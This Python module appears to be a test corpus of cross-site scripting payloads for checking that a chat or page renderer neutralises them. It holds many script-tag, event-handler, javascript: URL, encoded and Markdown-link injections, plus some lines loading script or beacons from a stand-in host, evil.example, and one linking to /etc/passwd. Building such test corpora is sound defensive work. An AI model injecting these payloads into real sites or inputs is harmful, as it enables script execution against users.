"""Text that tries to run as script wherever it is put: tags, attributes, addresses, Markdown."""

from __future__ import annotations

from itertools import product

_CALLS = ("alert(1)", "document.body.dataset.pwned=1")
_TAGS = (
    "<script>{c}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<img src=x onerror={c}>",
    '<img src="x" onerror="{c}">',
    "<svg onload={c}>",
    "<svg/onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<math><mtext></p><style><img src=x onerror={c}></style>",
    "<body onload={c}>",
    "<iframe src=javascript:{c}></iframe>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<object data=javascript:{c}></object>",
    "<embed src=javascript:{c}>",
    "<a href=javascript:{c}>x</a>",
    "<a href='jav&#x09;ascript:{c}'>x</a>",
    "<a href=' javascript:{c}'>x</a>",
    "<a href='data:text/html,<script>{c}</script>'>x</a>",
    "<a href='vbscript:{c}'>x</a>",
    "<form action=javascript:{c}><button>x</button></form>",
    "<button formaction=javascript:{c}>x</button>",
    "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<marquee onstart={c}>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<link rel=stylesheet href=javascript:{c}>",
    "<base href=javascript:{c}//>",
    "<style>@import 'javascript:{c}';</style>",
    "<div style='background:url(javascript:{c})'>",
    "<div style='width:expression({c})'>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<!--><img src=x onerror={c}>-->",
    "<![CDATA[<img src=x onerror={c}>]]>",
    "<x onclick={c}>x</x>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    '"><script>{c}</script>',
    "'><script>{c}</script>",
    '" onmouseover="{c}" x="',
    "' onfocus='{c}' autofocus='",
)
_MARKDOWN = (
    "[x](javascript:{c})",
    "[x](JaVaScRiPt:{c})",
    "[x](java\tscript:{c})",
    "[x](javascript&colon;{c})",
    "[x](&#106;avascript:{c})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:{c})",
    "[x](file:///etc/passwd)",
    "![x](javascript:{c})",
    "![x](https://evil.example/beacon.png)",
    '[x](https://a.example "onmouseover={c}")',
    "[x]: javascript:{c}\n\n[x]",
    "<javascript:{c}>",
    "<https://a.example/\"onmouseover='{c}'>",
    "`<script>{c}</script>`",
    "```html\n<script>{c}</script>\n```",
    "    <script>{c}</script>",
    "# <img src=x onerror={c}>",
    "| <svg onload={c}> |\n|---|\n| <script>{c}</script> |",
)

HOSTILE = [form.replace("{c}", call) for form, call in product((*_TAGS, *_MARKDOWN), _CALLS)]

# --- The corpus of the live room: every way in, by every way to write it, from every place ------

# Sets what a page that runs it can be asked for, and what its policy reports.
_MARK = "window.pwned=1"
_EVENT_TAGS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("input autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("iframe", "onload"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("style", "onload"),
    ("a tabindex=1 autofocus", "onfocus"),
    ("x contenteditable autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
)
_WHOLE_TAGS = (
    "<script>{c}</script>",
    "<script type=module>{c}</script>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<math><mtext></p><style><img src=x onerror={c}></style>",
    "<iframe src=javascript:{c}></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<embed src=javascript:{c}>",
    "<form><button autofocus onfocus={c}>",
    "<base href=javascript:{c}//>",
    "<meta http-equiv=refresh content=0;url=javascript:{c}>",
    "<template><script>{c}</script></template><script>{c}</script>",
)
_CONTEXTS = (
    "{t}",
    '">{t}',
    "'>{t}",
    "</title>{t}",
    "</textarea>{t}",
    "</template>{t}",
    "</script>{t}",
    "--></p>{t}",
    "]]>{t}",
)
_EXPRESSIONS = (
    '" onmouseover="{c}" autofocus onfocus="{c}" x="',
    "' autofocus onfocus='{c}' x='",
    " onerror={c} src=x ",
    "javascript:{c}",
    "\\u003cimg src=x onerror={c}\\u003e",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    "';{c}//",
    '";{c}//',
    "`${{c}}`",
    "{{constructor.constructor('{c}')()}}",
    "${{c}}",
    "{% debug %}<script>{c}</script>",
    "%3Cimg%20src%3Dx%20onerror%3D{c}%3E",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    '","role":"seller","x":"</script><script>{c}</script>',
)


def _written(tag: str) -> list[str]:
    """One tag in the ways in which a filter might not know it and a browser might."""
    as_references = "".join(f"&#{ord(character)};" for character in "<>")
    less, greater = as_references[:5], as_references[5:]
    return [
        tag,
        tag.swapcase().replace(_MARK.swapcase(), _MARK),
        tag.replace(" ", "/"),
        tag.replace(" ", "\t"),
        tag.replace("<", "&lt;").replace(">", "&gt;"),
        tag.replace("<", less).replace(">", greater),
        tag.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        tag.rstrip(">"),
        "<" + tag,
        "\u202e" + tag,
    ]


def _corpus() -> list[str]:
    tags = [f"<{tag} {event}={_MARK}>" for tag, event in _EVENT_TAGS]
    tags += [form.replace("{c}", _MARK) for form in _WHOLE_TAGS]
    ways = [way for tag in tags for way in _written(tag)]
    texts = [
        context.replace("{t}", way)
        for number, context in enumerate(_CONTEXTS)
        # Every tag in every place, and every way of writing it in half of the places.
        for way in (ways if number % 2 == 0 else tags)
    ]
    texts += [form.replace("{c}", _MARK) for form in _EXPRESSIONS]
    return list(dict.fromkeys(texts))


ROOM_CORPUS = _corpus()
